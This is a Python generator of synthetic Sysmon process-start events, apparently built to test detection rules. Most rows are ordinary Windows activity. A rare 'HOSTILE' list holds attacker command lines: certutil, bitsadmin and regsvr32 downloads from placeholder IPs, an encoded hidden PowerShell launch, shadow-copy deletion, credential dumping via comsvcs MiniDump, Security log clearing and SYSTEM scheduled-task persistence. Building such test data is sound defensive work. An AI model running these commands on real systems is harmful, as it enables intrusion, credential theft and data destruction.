"""Process starts as Sysmon would tell them, in any number: ordinary machines, invented names, the same for a seed.

What repeats does so as on real machines: few programs, many command lines that return word for word, and many with a number, a path or
an identifier of their own. One event in two thousand is what rules are written for.
"""

from __future__ import annotations

import datetime as dt
import json
import random
from collections.abc import Iterator

import pyarrow as pa

SYSTEM, X86, WINDOWS = "C:\\Windows\\System32\\", "C:\\Windows\\SysWOW64\\", "C:\\Windows\\"
MICROSOFT = ("Microsoft® Windows® Operating System", "Microsoft Corporation")
# Weight, image, parent, command lines with places for what varies.
ORDINARY: tuple[tuple[int, str, str, tuple[str, ...]], ...] = (
    (90, SYSTEM + "conhost.exe", SYSTEM + "cmd.exe", ("\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "\\??\\C:\\Windows\\system32\\conhost.exe 0x4")),
    (70, SYSTEM + "svchost.exe", SYSTEM + "services.exe", ("C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s {service}", "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -s {service}",
                                                           "C:\\Windows\\system32\\svchost.exe -k wsappx -p -s AppXSvc")),
    (60, SYSTEM + "cmd.exe", WINDOWS + "explorer.exe", ("\"C:\\Windows\\system32\\cmd.exe\" /c dir \"{path}\" /s /b", "cmd /c copy /Y {path} {path}.bak", "cmd.exe /c \"C:\\Build\\run.cmd --job {n} --out {path}\"",
                                                        "C:\\Windows\\system32\\cmd.exe /d /s /c \"npm run build --if-present\"", "cmd.exe /c ver")),
    (40, SYSTEM + "PING.EXE", SYSTEM + "cmd.exe", ("ping  -n {small} 127.0.0.1", "ping -n 1 -w 500 {host}")),
    (40, SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", SYSTEM + "svchost.exe", (
        "powershell.exe -ExecutionPolicy RemoteSigned -File \"C:\\Ops\\Scripts\\inventory.ps1\" -Run {guid}", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -Command Get-Service -Name {service}",
        "powershell -NoLogo -NonInteractive -Command \"& {{ Get-ChildItem '{path}' | Measure-Object -Property Length -Sum }}\"")),
    (40, SYSTEM + "taskhostw.exe", SYSTEM + "svchost.exe", ("taskhostw.exe Logon", "taskhostw.exe {{222A245B-E637-4AE9-A93F-A59CA119A75E}}", "taskhostw.exe")),
    (50, SYSTEM + "backgroundTaskHost.exe", SYSTEM + "svchost.exe", ("\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppX{guid}.mca",)),
    (40, SYSTEM + "RuntimeBroker.exe", SYSTEM + "svchost.exe", ("C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",)),
    (30, SYSTEM + "dllhost.exe", SYSTEM + "svchost.exe", ("C:\\Windows\\system32\\DllHost.exe /Processid:{{{guid}}}", "C:\\Windows\\system32\\DllHost.exe /Processid:{{3EB3C877-1F16-487C-9050-104DBCD66683}}")),
    (40, SYSTEM + "SearchProtocolHost.exe", SYSTEM + "SearchIndexer.exe", ("\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \"Software\\Microsoft\\Windows Search\"",)),
    (25, SYSTEM + "SearchFilterHost.exe", SYSTEM + "SearchIndexer.exe", ("\"C:\\Windows\\system32\\SearchFilterHost.exe\" 0 {n} {n} {n} 8192 {n}",)),
    (25, SYSTEM + "wbem\\WmiPrvSE.exe", SYSTEM + "svchost.exe", ("C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding")),
    (15, SYSTEM + "schtasks.exe", SYSTEM + "cmd.exe", ("schtasks /Query /TN \\Example\\Sync{small} /FO CSV", "schtasks.exe /run /tn \"Example Nightly\"")),
    (15, SYSTEM + "reg.exe", SYSTEM + "cmd.exe", ("reg query HKLM\\SOFTWARE\\Example\\Agent /v Version", "C:\\Windows\\System32\\reg.exe add HKCU\\Software\\Example /v Last /t REG_SZ /d {n} /f")),
    (15, SYSTEM + "sc.exe", SYSTEM + "cmd.exe", ("sc query {service}", "sc start {service}")),
    (15, SYSTEM + "net.exe", SYSTEM + "cmd.exe", ("net use S: \\\\files.example.com\\share", "net start {service}", "net time /set")),
    (10, SYSTEM + "netsh.exe", SYSTEM + "svchost.exe", ("netsh interface show interface", "netsh wlan show profiles")),
    (12, SYSTEM + "whoami.exe", SYSTEM + "cmd.exe", ("\"C:\\Windows\\system32\\whoami.exe\" /user", "whoami")),
    (12, SYSTEM + "ipconfig.exe", SYSTEM + "cmd.exe", ("ipconfig /all", "C:\\Windows\\system32\\ipconfig /flushdns")),
    (12, SYSTEM + "rundll32.exe", SYSTEM + "svchost.exe", ("rundll32.exe AppXDeploymentExtensions.OneCore.dll,ShellRefresh", "C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask",
                                                           "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\shell32.dll,Control_RunDLL printui.cpl,{n}")),
    (10, SYSTEM + "msiexec.exe", SYSTEM + "services.exe", ("C:\\Windows\\system32\\msiexec.exe /V", "msiexec.exe /i \"{path}.msi\" /qn /norestart")),
    (10, SYSTEM + "cscript.exe", "C:\\Program Files\\Example Monitoring\\agent.exe", ("\"C:\\Windows\\system32\\cscript.exe\" /nologo \"MonitorDisk{small}.vbs\" {guid}",)),
    (8, SYSTEM + "wevtutil.exe", SYSTEM + "cmd.exe", ("wevtutil qe System /c:{small} /rd:true /f:text",)),
    (8, SYSTEM + "tasklist.exe", SYSTEM + "cmd.exe", ("tasklist /fo csv /nh", "tasklist  /fi \"PID eq {n}\"")),
    (8, SYSTEM + "taskkill.exe", SYSTEM + "cmd.exe", ("taskkill /F /PID {n}",)),
    (6, SYSTEM + "robocopy.exe", SYSTEM + "cmd.exe", ("robocopy {path} \\\\files.example.com\\backup\\{host} /MIR /R:1 /LOG:C:\\Logs\\{n}.log",)),
    (6, SYSTEM + "wermgr.exe", SYSTEM + "svchost.exe", ("C:\\Windows\\system32\\wermgr.exe -upload",)),
    (70, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", (
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={n} --time-ticks-at-unix-epoch=-{n}{n} "
        "--launch-time-ticks={n} --field-trial-handle={n},i,{n}{n},{n}{n},262144 --variations-seed-version /prefetch:1",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --field-trial-handle={n},i,{n}{n} /prefetch:8")),
    (50, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", WINDOWS + "explorer.exe", (
        "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --single-argument https://{host}.example.com/{guid}", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --profile-directory=Default")),
    (25, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", WINDOWS + "explorer.exe", ("\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"{path}.docx\" /o \"\"",)),
    (25, "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", WINDOWS + "explorer.exe", ("\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"{path}.xlsx\"",)),
    (20, "C:\\Program Files\\Windows Defender\\MpCmdRun.exe", SYSTEM + "svchost.exe", ("\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" SignatureUpdate -ScheduleJob -RestrictPrivileges",)),
    (20, "C:\\Program Files\\Git\\cmd\\git.exe", "C:\\Program Files\\Example IDE\\ide.exe", ("git.exe -c core.quotepath=false status --porcelain -z -uall", "git.exe rev-parse {guid}", "git.exe fetch --prune origin")),
    (20, "C:\\Program Files\\nodejs\\node.exe", SYSTEM + "cmd.exe", ("\"C:\\Program Files\\nodejs\\node.exe\" \"{path}\\node_modules\\webpack\\bin\\webpack.js\" --mode production --env build={n}",)),
    (15, "C:\\Python311\\python.exe", SYSTEM + "svchost.exe", ("C:\\Python311\\python.exe C:\\Ops\\poll.py --shard {small} --since {n}", "python -m pip --version")),
    (15, "C:\\Program Files\\Java\\jdk-17\\bin\\java.exe", "C:\\Program Files\\Example Build\\agent.exe", ("java -Xmx2048m -XX:+UseG1GC -Dbuild.id={guid} -cp {path}\\lib\\app.jar;{path}\\lib\\core.jar com.example.Main --port {n}",)),
    (15, "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", WINDOWS + "explorer.exe", ("\"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=gpu-process --field-trial-handle={n},{n}{n} --mojo-platform-channel-handle={n}",)),
    (15, "C:\\Users\\{user}\\AppData\\Local\\Temp\\{guid}\\setup.exe", WINDOWS + "explorer.exe", ("\"C:\\Users\\{user}\\AppData\\Local\\Temp\\{guid}\\setup.exe\" /S /log={path}.log",)),
    (10, "C:\\Program Files\\Example Agent\\agent.exe", SYSTEM + "services.exe", ("\"C:\\Program Files\\Example Agent\\agent.exe\" --session {guid} --port {n}",)),
)
# What rules are written for; each is rare.
HOSTILE: tuple[tuple[str, str, str], ...] = (
    (SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA{n}"),
    (SYSTEM + "vssadmin.exe", SYSTEM + "cmd.exe", "vssadmin delete shadows /all /quiet"),
    (SYSTEM + "certutil.exe", SYSTEM + "cmd.exe", "certutil -urlcache -split -f http://203.0.113.{small}/{guid}.exe C:\\Users\\Public\\{n}.exe"),
    (SYSTEM + "rundll32.exe", SYSTEM + "cmd.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\Temp\\{n}.dmp full"),
    (SYSTEM + "regsvr32.exe", SYSTEM + "cmd.exe", "regsvr32 /s /n /u /i:http://198.51.100.{small}/x.sct scrobj.dll"),
    (SYSTEM + "mshta.exe", WINDOWS + "explorer.exe", "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell\"\":close\")"),
    (SYSTEM + "net.exe", SYSTEM + "cmd.exe", "net group \"Domain Admins\" /domain"),
    (SYSTEM + "wevtutil.exe", SYSTEM + "cmd.exe", "wevtutil cl Security"),
    (SYSTEM + "schtasks.exe", SYSTEM + "cmd.exe", "schtasks /create /sc onlogon /tn Upd{n} /tr C:\\Users\\Public\\{n}.exe /ru SYSTEM"),
    (SYSTEM + "bitsadmin.exe", SYSTEM + "cmd.exe", "bitsadmin /transfer j{n} http://192.0.2.{small}/a.exe C:\\ProgramData\\a.exe"),
    (SYSTEM + "whoami.exe", SYSTEM + "cmd.exe", "whoami /priv /groups"),
)
SERVICES = ("Themes", "wuauserv", "Schedule", "BITS", "Spooler", "gpsvc", "WinRM", "Dnscache", "ClipSVC", "LicenseManager", "Appinfo", "ExampleSync")
WORDS = ("Reports", "Quarter", "Budget", "Design", "Notes", "Export", "Archive", "Projects", "Site", "Plan")
FIRST = dt.datetime(2024, 3, 4, 6, 0)


def process_starts(number: int, seed: int = 7, batch: int = 50_000) -> Iterator[pa.Table]:
    """Rows of `process_activity`, in tables of at most `batch`."""
    chance = random.Random(seed)
    weights = [o[0] for o in ORDINARY]
    for begins in range(0, number, batch):
        chosen = chance.choices(ORDINARY, weights, k=min(batch, number - begins))
        yield pa.Table.from_pylist([_row(begins + n, chance, of) for n, of in enumerate(chosen)])


def _row(n: int, chance: random.Random, of: tuple[int, str, str, tuple[str, ...]]) -> dict[str, object]:
    _, image, parent, commands = of
    command = chance.choice(commands)
    if chance.random() < 0.0005:
        image, parent, command = chance.choice(HOSTILE)
    varying = _varying(chance)
    image, command = image.format(**varying), command.format(**varying)
    host, user = f"ws{varying['host'][2:]}.example.com", f"EXAMPLE\\{varying['user']}"
    name = image.rsplit("\\", 1)[1]
    product, company = MICROSOFT if image.startswith(WINDOWS) else (name.removesuffix(".exe").title(), "Example Ltd")
    number = str(chance.randrange(1000, 30000) * 4)
    digest = f"{chance.getrandbits(24) % 997:064X}"
    said = {
        "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon", "Computer": host, "FileVersion": "10.0.17763.1217 (WinBuild.160101.0800)", "Description": f"{name} of {company}",
        "LogonGuid": "{00000000-0000-0000-e403-000000000000}", "ParentCommandLine": parent, "Hashes": f"SHA1={digest[:40]},MD5={digest[:32]},SHA256={digest},IMPHASH={digest[-32:]}", "Image": image,
        "TerminalSessionId": "1", "User": user, "CommandLine": command, "ParentProcessGuid": "{00000000-0000-0000-0b00-000000000300}", "ParentProcessId": "696", "OriginalFileName": name, "ProcessId": number,
        "ProcessGuid": f"{{{n:08x}-4a98-5ee0-1704-000000000300}}", "Product": product, "ParentImage": parent, "Company": company, "IntegrityLevel": chance.choice(("Medium", "System", "High")),
        "CurrentDirectory": f"C:\\Users\\{varying['user']}\\", "LogonId": f"0x{chance.randrange(9999):x}", "UtcTime": "2024-03-05 02:51:04.728", "EventID": "1",
    }
    return {
        "time": FIRST + dt.timedelta(milliseconds=200 * n), "uid": f"{host}/Microsoft-Windows-Sysmon/Operational/{n}", "source": "windows_event", "digest": f"{n:016x}", "host": host, "actor_user": user,
        "process": image, "pid": int(number), "command": command, "parent": parent, "parent_command": parent, "file_name": name, "integrity": said["IntegrityLevel"], "operation": "start",
        "folder": said["CurrentDirectory"], "product": product, "company": company, "logon_id": said["LogonId"], "fields": json.dumps(said, ensure_ascii=False),
    }


def _varying(chance: random.Random) -> dict[str, str]:
    user = f"user{chance.randrange(400):03}"
    return {
        "user": user, "host": f"ws{chance.randrange(600):04}", "n": str(chance.randrange(100, 99999)), "small": str(chance.randrange(2, 60)), "service": chance.choice(SERVICES),
        "guid": f"{chance.getrandbits(128):032x}", "path": f"C:\\Users\\{user}\\Documents\\{chance.choice(WORDS)}\\{chance.choice(WORDS)} {chance.randrange(2000)}",
    }
